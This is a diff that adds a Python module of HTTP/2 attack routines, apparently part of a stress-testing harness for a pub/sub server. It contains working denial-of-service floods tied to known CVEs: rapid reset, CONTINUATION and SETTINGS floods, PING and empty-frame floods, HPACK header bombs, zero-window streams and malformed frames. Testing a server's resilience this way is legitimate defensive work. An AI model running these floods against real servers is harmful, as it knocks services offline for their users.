@@ -1,0 +1,104 @@
+"""Frames of HTTP/2."""
+
+import asyncio
+import itertools
+import struct
+
+import wire
+
+
+async def many_streams(attacker):
+    """Opens streams and held polls, up to the limit of the connection and beyond it."""
+    connection = await attacker.http2()
+    for stream in range(1, 800, 2):
+        path = attacker.random.choice(["/topics/news.1?transport=sse", "/topics/news.2?transport=ndjson",
+                                       "/topics/rooms.1?wait=60", "/topics/news.3?since=0s&wait=60"])
+        await connection.flood(wire.headers(stream, path))
+        attacker.count("streams")
+    await connection.discard_some(20)
+
+
+async def rapid_resets(attacker):
+    """Opens streams and resets each at once (CVE-2023-44487)."""
+    connection = await attacker.http2()
+    reading = asyncio.ensure_future(connection.discard())
+    try:
+        for first in itertools.count(1, 200):
+            await connection.flood(b"".join(
+                wire.headers(stream, "/topics/news.1?transport=sse") + wire.frame(3, 0, stream, struct.pack(">I", 8))
+                for stream in range(first, first + 200, 2)))
+            attacker.count("streams reset", 100)
+    finally:
+        reading.cancel()
+
+
+async def continuation_flood(attacker):
+    """Begins a head, and goes on with CONTINUATION frames without an end (CVE-2024-27316)."""
+    connection = await attacker.http2()
+    connection.write(wire.frame(1, 0, 1, wire.head("/topics/news.1")))
+    pieces = [wire.frame(9, 0, 1, wire.fields([("x", "a" * 1000)])), wire.frame(9, 0, 1)]
+    while True:
+        await connection.flood(attacker.random.choice(pieces) * 20)
+        attacker.count("CONTINUATION frames", 20)
+
+
+async def settings_flood(attacker):
+    """Sends SETTINGS without an end, and reads no acknowledgement (CVE-2019-9515)."""
+    connection = await attacker.http2()
+    while True:
+        await connection.flood(wire.settings([(1, 0), (4, attacker.random.randrange(1 << 31)), (1, 4096)]) * 100)
+        attacker.count("SETTINGS frames", 100)
+
+
+async def ping_flood(attacker):
+    """Sends PING without an end, and reads no answer (CVE-2019-9512)."""
+    connection = await attacker.http2()
+    while True:
+        await connection.flood(wire.frame(6, 0, 0, bytes(8)) * 200)
+        attacker.count("PING frames", 200)
+
+
+async def empty_frames(attacker):
+    """Sends DATA frames without data, WINDOW_UPDATE and PRIORITY frames (CVE-2019-9518)."""
+    connection = await attacker.http2()
+    connection.write(wire.headers(1, "/publish", "POST", [("content-type", "application/x-ndjson")], is_end=False))
+    frames = [wire.frame(0, 0, 1), wire.frame(8, 0, 1, struct.pack(">I", 1)),
+              wire.frame(2, 0, 3, struct.pack(">IB", 1, 9)), wire.frame(0, 8, 1, b"\x05" + bytes(5))]
+    while True:
+        await connection.flood(attacker.random.choice(frames) * 100)
+        attacker.count("empty frames", 100)
+
+
+async def tiny_windows(attacker):
+    """Asks for long answers and refusals, with a window of one byte or none, and takes none of them."""
+    connection = await attacker.http2([(4, attacker.random.choice([0, 1]))])
+    for stream in range(1, 500, 2):
+        path = attacker.random.choice(["/topics/news.1?after=0&wait=0&limit=1000", "/topics/rooms.1", "/nowhere",
+                                       "/events?topic=news.*&after=0&transport=ndjson", "/openapi.json"])
+        await connection.flood(wire.headers(stream, path))
+        attacker.count("answers not taken")
+    await connection.discard_some(40)
+
+
+async def header_bombs(attacker):
+    """Repeats one field of the table of HPACK, so that a byte becomes many."""
+    connection = await attacker.http2()
+    entry = b"\x40\x01a\x7f\x81\x1e" + b"b" * 4000
+    for stream in range(1, 400, 2):
+        size = attacker.random.choice([15, 90, 4000])
+        block = wire.head("/topics/news.1?since=0s&wait=60") + entry + b"\xbe" * size
+        await connection.flood(wire.frame(1, 5, stream, block))
+        attacker.count("heads")
+        attacker.count("bytes unpacked", size * 4000)
+    await connection.discard_some(5)
+
+
+async def broken_frames(attacker):
+    """Sends frames that no client sends."""
+    connection = await attacker.http2()
+    for _ in range(50):
+        await connection.flood(wire.frame(
+            attacker.random.randrange(12), attacker.random.randrange(256), attacker.random.randrange(5),
+            attacker.random.randbytes(attacker.random.choice([0, 1, 8, 300]))))
+        attacker.count("frames")
+    await connection.discard_some(2)
